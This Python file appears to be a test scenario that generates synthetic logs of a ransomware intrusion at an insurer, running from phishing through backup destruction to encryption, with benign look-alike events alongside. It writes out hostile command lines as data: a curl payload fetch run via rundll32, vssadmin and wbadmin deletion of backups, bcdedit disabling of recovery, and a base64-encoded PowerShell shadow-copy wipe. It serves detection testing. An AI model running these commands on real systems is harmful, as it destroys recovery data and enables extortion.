"""A crew comes in by a claims clerk's mailbox on Friday and encrypts the document store on Monday night.

Friday: a mail from a broker's lookalike domain; a clerk types the password into the page, and minutes later the crew has a factor of
its own. From her mailbox they write to an underwriter, whose workbook starts a shell. At the weekend an administrator's account
carries off medical files, then breaks the backups. Monday before midnight it stops recovery on the core servers and writes the
archive anew. Beside it: other clerks who click, get new phones, delete a wrong batch; a re-indexing job that writes as fast.
"""

from __future__ import annotations

from base64 import b64encode
from datetime import datetime, timedelta
from random import Random
from typing import Any

from tests.scenarios.insurer import Insurer

ADMIN = "adm.t.brandt"
LOOKALIKE = {"email.from.address": "schaden@hansa-rnakler.example", "insurance.context.lookalike_domain": "yes"}
SYSTEM = "C:\\Windows\\System32\\"
EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
FRIDAY, SATURDAY, SUNDAY, TUESDAY = -3, -2, -1, 1


def tell(insurer: Insurer) -> None:
    """The crew's five steps, each beside those who do something alike and mean no harm."""
    _mail(insurer)
    _factors(insurer)
    _workstations(insurer)
    _medical_files(insurer)
    _backups(insurer)
    _recovery(insurer)
    _archive(insurer, Random(insurer.random.getrandbits(64)))
    _morning_after(insurer)


def _clerks(insurer: Insurer) -> tuple[str, str, str, str]:
    """Who is taken over, whose click is blocked, who reports the click, and who clicked the day before."""
    return insurer.adjusters[17], insurer.adjusters[22], insurer.adjusters[31], insurer.adjusters[40]


def _mail(insurer: Insurer) -> None:
    victim, blocked, reporter, yesterday = _clerks(insurer)
    add, at = insurer.day.add, insurer.day.at

    def delivered(clock: str, to: str, direction: str = "inbound", **more: Any) -> None:
        who = {"user.name": to, "insurance.actor.role": "adjuster"} if to in insurer.adjusters else {}
        fields = {"event.action": "mail-delivered", "email.to.address": f"{to}@insurer.example", "email.direction": direction}
        sender = {"email.from.address": "post@kunde.example", "insurance.context.lookalike_domain": "no"}
        add("email_security", at(clock, days=FRIDAY), {**fields, **who, **sender, **more})

    extension = "email.attachments.file.extension"
    for number, to in enumerate(("claims", victim, blocked, reporter)):
        delivered(f"07:50:{number:02d}", to, **LOOKALIKE, **{extension: "svg"})
    stopped = {"event.action": "mail-quarantined", "email.to.address": "underwriting@insurer.example", "email.direction": "inbound"}
    add("email_security", at("07:50:09", days=FRIDAY), {**stopped, **LOOKALIKE, extension: "svg"})
    delivered("07:31", "claims", **{"email.from.address": "schaden@hansa-makler.example", extension: "pdf"})
    delivered("09:12", "claims", **{"email.from.address": "gutachten@karosserie-lenz.example", extension: "html"})
    for number in range(60):
        delivered(
            f"{8 + number % 8:02d}:{number % 60:02d}", insurer.adjusters[number % 40], **{extension: ("pdf", "jpg", "docx")[number % 3]}
        )
    delivered("10:40", insurer.adjusters[3], "internal", **{"email.from.address": f"{reporter}@insurer.example", extension: "html"})
    # From her mailbox: inside the house, so nobody looks at the attachment.
    for number in (3, 9):
        more = {"email.from.address": f"{victim}@insurer.example", extension: "xll", "insurance.actor.role": "underwriter"}
        delivered(f"12:41:{number:02d}", insurer.underwriters[number], "internal", **more, **{"user.name": insurer.underwriters[number]})

    def click(moment: datetime, user: str, outcome: str, role: str = "adjuster") -> None:
        who = {"user.name": user, "email.to.address": f"{user}@insurer.example", "insurance.actor.role": role}
        add("email_security", moment, {"event.action": "url-click", "event.outcome": outcome, **who})

    click(at("07:50:31", days=FRIDAY), "claims", "success", "service")
    click(at("07:50:33", days=FRIDAY), blocked, "success", "service")
    click(at("08:06", days=FRIDAY), victim, "success")
    click(at("08:14", days=FRIDAY), blocked, "failure")
    click(at("09:31", days=FRIDAY), reporter, "success")
    click(at("07:30", days=FRIDAY - 1), yesterday, "success")
    rule = {
        "event.action": "mail-forward-rule",
        "event.outcome": "failure",
        "email.direction": "outbound",
        "insurance.actor.role": "adjuster",
    }
    add("email_security", at("08:31", days=FRIDAY), {**rule, "user.name": victim, "email.to.address": "b.berg77@freemail.example"})


def _factors(insurer: Insurer) -> None:
    victim, blocked, reporter, yesterday = _clerks(insurer)
    at = insurer.day.at
    for user in (victim, blocked, reporter, yesterday):
        insurer.sign_in(at("07:20", days=FRIDAY), user)
    # A residential address in the same country, a session taken over whole: no score to speak of.
    insurer.sign_in(
        at("08:08", days=FRIDAY), victim, **{"event.risk_score": 55, "source.ip": "91.64.11.7", "insurance.context.new_device": "yes"}
    )

    def factor(clock: str, user: str, action: str, **more: Any) -> None:
        insurer.sign_in(at(clock, days=FRIDAY), user, **{"event.action": action, "insurance.actor.role": "adjuster", **more})

    factor("08:15", victim, "factor-register", **{"source.ip": "91.64.11.7", "insurance.auth.method": "otp"})
    factor("10:05", reporter, "factor-reset")
    factor("10:20", reporter, "factor-register", **{"insurance.auth.method": "push"})
    factor("08:02", yesterday, "factor-reset")
    factor("08:11", yesterday, "factor-register", **{"insurance.auth.method": "push"})
    factor("11:00", insurer.adjusters[5], "factor-reset")
    factor("11:10", insurer.adjusters[5], "factor-register", **{"insurance.auth.method": "passkey"})
    for number, claim in enumerate(insurer.claims_of(victim)[:9]):
        insurer.claim_event(at(f"08:{20 + number}", days=FRIDAY), victim, "claim-view", claim, **{"source.ip": "91.64.11.7"})


def _process(insurer: Insurer, moment: datetime, host: str, user: str, parent: str, command: str, image: str = "") -> None:
    program = image or SYSTEM + command.split()[0].removesuffix(".exe") + ".exe"
    told = {"Computer": host, "User": f"ACME\\{user}", "ParentImage": parent, "Image": program, "CommandLine": command}
    insurer.day.add("process_creation", moment, told)


def _workstations(insurer: Insurer) -> None:
    at, user = insurer.day.at, insurer.underwriters[3]
    outlook = EXCEL.replace("EXCEL", "OUTLOOK")
    _process(insurer, at("12:58", days=FRIDAY), "ws-uw-0102.acme.example", user, outlook, '"EXCEL.EXE" "Schadenliste.xll"', EXCEL)
    fetch = "cmd.exe /c curl -so %TEMP%\\u.dat https://cdn.schadenliste.example/u"
    _process(insurer, at("12:58:04", days=FRIDAY), "ws-uw-0102.acme.example", user, EXCEL, fetch)
    _process(insurer, at("12:58:05", days=FRIDAY), "ws-uw-0102.acme.example", user, SYSTEM + "cmd.exe", fetch[len("cmd.exe /c ") :])
    _process(insurer, at("12:58:09", days=FRIDAY), "ws-uw-0102.acme.example", user, EXCEL, "rundll32.exe u.dat,Start")
    for number in range(12):
        moment, honest = at(f"09:{number * 4:02d}", days=FRIDAY), insurer.underwriters[number]
        _process(insurer, moment, "ws-uw-0101.acme.example", honest, EXCEL, "splwow64.exe 8192", "C:\\Windows\\splwow64.exe")
        launcher = "C:\\Program Files\\Pricing\\hxlauncher.exe"
        _process(insurer, moment + timedelta(minutes=1), "ws-uw-0101.acme.example", honest, EXCEL, "hxlauncher.exe /model motor", launcher)
    macro = "powershell.exe -File \\\\models\\tools\\refresh_triangles.ps1"
    _process(insurer, at("10:15", days=FRIDAY), "ws-act-0031.acme.example", "c.aydin", EXCEL, macro)


def _document(insurer: Insurer, moment: datetime, user: str, action: str, number: int, **more: Any) -> None:
    what = {"event.action": action, "insurance.document.id": f"DOC-{500000 + number}"}
    insurer.day.add("insurance_document", moment, insurer.person(user, **{**what, "insurance.context.ticket_valid": "no", **more}))


def _medical_files(insurer: Insurer) -> None:
    """Sunday: what will be threatened with is fetched before anything breaks. A handler reads those of his own claims."""
    medical = {"insurance.document.class": "medical", "insurance.data.class": "special_category"}
    at = insurer.day.at
    insurer.sign_in(at("01:12", days=SUNDAY), ADMIN, **{"service.name": "vpn", "insurance.context.new_device": "yes"})
    for number in range(300):
        claim = insurer.claims[number * 3]
        more = {"insurance.party.id": claim.party, "insurance.claim.id": claim.id, "insurance.context.assigned_to_actor": "no"}
        moment = at("01:40", days=SUNDAY) + timedelta(seconds=13 * number)
        _document(insurer, moment, ADMIN, "document-download", number * 3, **medical, **more)
    handler = insurer.adjusters[8]
    for number, claim in enumerate(insurer.claims_of(handler)):
        more = {"insurance.party.id": claim.party, "insurance.claim.id": claim.id, "insurance.context.assigned_to_actor": "yes"}
        _document(insurer, at("09:00") + timedelta(seconds=70 * number), handler, "document-view", 9000 + number, **medical, **more)


def _backups(insurer: Insurer) -> None:
    at = insurer.day.at

    def change(clock: str, user: str, action: str, ticket: str, days: int, **more: Any) -> None:
        fields = {"event.action": action, "event.outcome": "success", "user.name": user, "insurance.context.ticket_valid": ticket}
        insurer.day.add("backup", at(clock, days=days), {**fields, **more})

    change("03:12", ADMIN, "immutability-disable", "no", SUNDAY, **{"event.outcome": "failure"})
    change("03:15", ADMIN, "immutability-disable", "no", SUNDAY)
    change("03:18", ADMIN, "retention-change", "no", SUNDAY, **{"service.name": "document-store"})
    for number in range(3):
        change(f"03:2{number}", ADMIN, "backup-delete", "no", SUNDAY, **{"service.name": "document-store"})
    for host in ("cc-app-01", "core-db-01.acme.example"):
        change("03:30", ADMIN, "job-disable", "no", SUNDAY, **{"host.name": host})
    change("01:00", "svc_backup", "backup-delete", "no", SUNDAY, **{"event.outcome": "failure", "service.name": "claimcenter-prod-eu"})
    change("14:00", "adm.s.keller", "retention-change", "yes", FRIDAY, **{"service.name": "policycenter-prod-eu"})
    change("14:05", "adm.s.keller", "job-disable", "no", FRIDAY, **{"service.name": "uw-sandbox", "host.name": "uw-sbx-02"})


def _recovery(insurer: Insurer) -> None:
    at = insurer.day.at
    # What honest people and agents do with the same tools.
    agent = "C:\\Program Files\\Backup\\agent.exe"
    _process(insurer, at("03:05"), "bc-app-01.acme.example", "svc_backup", agent, "wbadmin delete backup -keepVersions:14 -quiet")
    _process(insurer, at("14:02"), "core-db-01.acme.example", "adm.s.keller", SYSTEM + "cmd.exe", "vssadmin list shadows")
    _process(insurer, at("14:03"), "core-db-01.acme.example", "adm.s.keller", SYSTEM + "cmd.exe", "wbadmin get versions")
    _process(insurer, at("14:04"), "core-db-01.acme.example", "adm.s.keller", SYSTEM + "cmd.exe", "bcdedit /enum")
    laptop = "vssadmin delete shadows /for=d: /oldest"
    _process(insurer, at("15:40"), "ws-0417.acme.example", "adm.desk2", SYSTEM + "cmd.exe", laptop)
    # The crew: one server from the jump host, one by hand, the archive's own by PowerShell.
    for number, look in enumerate(("nltest /dclist:acme", 'net group "Domain Admins" /domain', "nltest /domain_trusts")):
        _process(insurer, at(f"01:2{number}", days=SUNDAY), "jump-02.acme.example", ADMIN, SYSTEM + "cmd.exe", look)
    kill = "vssadmin delete shadows /all /quiet"
    remote = f'wmic /node:core-db-01 process call create "{kill}"'
    _process(insurer, at("21:52"), "jump-02.acme.example", ADMIN, SYSTEM + "cmd.exe", remote, SYSTEM + "wbem\\wmic.exe")
    _process(insurer, at("21:52:02"), "core-db-01.acme.example", ADMIN, SYSTEM + "wbem\\WmiPrvSE.exe", kill)
    _process(insurer, at("22:01"), "cc-app-01.acme.example", ADMIN, "C:\\Windows\\explorer.exe", "cmd.exe /c C:\\PerfLogs\\p.cmd")
    shell = SYSTEM + "cmd.exe"
    for number, command in enumerate(
        (
            kill,
            "wbadmin delete catalog -quiet",
            "bcdedit /set {default} recoveryenabled No",
            "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
        )
    ):
        _process(insurer, at(f"22:01:0{number + 1}"), "cc-app-01.acme.example", ADMIN, shell, command)
    script = "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }"
    encoded = b64encode(script.encode("utf-16-le")).decode("ascii")
    _process(insurer, at("23:18"), "dms-app-01.acme.example", ADMIN, shell, f"powershell.exe -nop -w hidden -enc {encoded}")
    _process(
        insurer, at("23:20"), "dms-app-01.acme.example", ADMIN, shell, "sync64.exe -p E:\\archive -t 24", "C:\\ProgramData\\sync64.exe"
    )


def _archive(insurer: Insurer, random: Random) -> None:
    """Who writes and deletes in the archive: clerks, jobs under their tickets, one job that outlives its ticket, the crew."""
    at = insurer.day.at
    for number in range(150):
        claim, moment = random.choice(insurer.claims), at("08:00") + timedelta(seconds=random.randrange(31000))
        action = random.choice(("document-overwrite", "document-overwrite", "document-delete"))
        _document(insurer, moment, claim.handler, action, 20000 + number, **{"insurance.claim.id": claim.id})
    wrong = insurer.claims_of(insurer.adjusters[11])[0]
    for number in range(240):
        moment = at("15:20") + timedelta(milliseconds=80 * number)
        _document(insurer, moment, wrong.handler, "document-delete", 21000 + number, **{"insurance.claim.id": wrong.id})

    def job(user: str, first: datetime, count: int, action: str, start: int, ticket: str) -> datetime:
        machine = {"insurance.actor.type": "service", "insurance.channel": "batch", "insurance.context.ticket_valid": ticket}
        for number in range(count):
            _document(insurer, first + timedelta(milliseconds=1500 * number), user, action, start + number, **machine)
        return first + timedelta(milliseconds=1500 * count)

    job("svc_records_retention", at("02:00"), 500, "document-delete", 30000, "yes")
    job("svc_dms_reindex", at("23:00"), 2000, "document-overwrite", 40000, "yes")
    # Saturday the run takes longer than its ticket.
    over = job("svc_dms_reindex", at("03:50", days=SATURDAY), 400, "document-overwrite", 50000, "yes")
    job("svc_dms_reindex", over, 480, "document-overwrite", 50400, "no")
    for number in range(14):
        _document(insurer, at("22:31") + timedelta(seconds=2 * number), ADMIN, "document-overwrite", 60000 + number)
    for number in range(2750):
        moment = at("23:21") + timedelta(milliseconds=1047 * number)
        claim = insurer.claims[number % len(insurer.claims)]
        _document(
            insurer, moment, ADMIN, "document-overwrite", 61000 + number, **{"insurance.claim.id": claim.id, "host.name": "dms-app-01"}
        )


def _morning_after(insurer: Insurer) -> None:
    """Past midnight: logs fall silent, customers get errors, and the extortionists write."""
    at, add = insurer.day.at, insurer.day.add
    for clock, service, dataset in (
        ("00:41", "document-store", "dms.audit"),
        ("00:43", "claimcenter-prod-eu", "guidewire.claimcenter_history"),
        ("00:50", "claimcenter-training", "guidewire.claimcenter_history"),
    ):
        silent = {
            "event.action": "source-silent",
            "service.name": service,
            "event.dataset": dataset,
            "event.reason": "no event for 30 minutes",
        }
        add("log_health", at(clock, days=TUESDAY), silent)
    for number in range(40):
        fields = {"insurance.api.client_id": "portal-web", "insurance.api.product": "portal", "service.name": "fnol-api"}
        request = {"http.request.method": "POST", "http.response.status_code": 503, "url.path": "/fnol/v2/claims", "source.ip": "10.30.0.4"}
        add("api_gateway", at("00:12", days=TUESDAY) + timedelta(seconds=45 * number), {**fields, **request})
    note = {"event.action": "mail-delivered", "email.to.address": "claims@insurer.example", "email.direction": "inbound"}
    sender = {"email.from.address": "support@north-harbour.example", "insurance.context.lookalike_domain": "no"}
    add("email_security", at("05:10", days=TUESDAY), {**note, **sender})
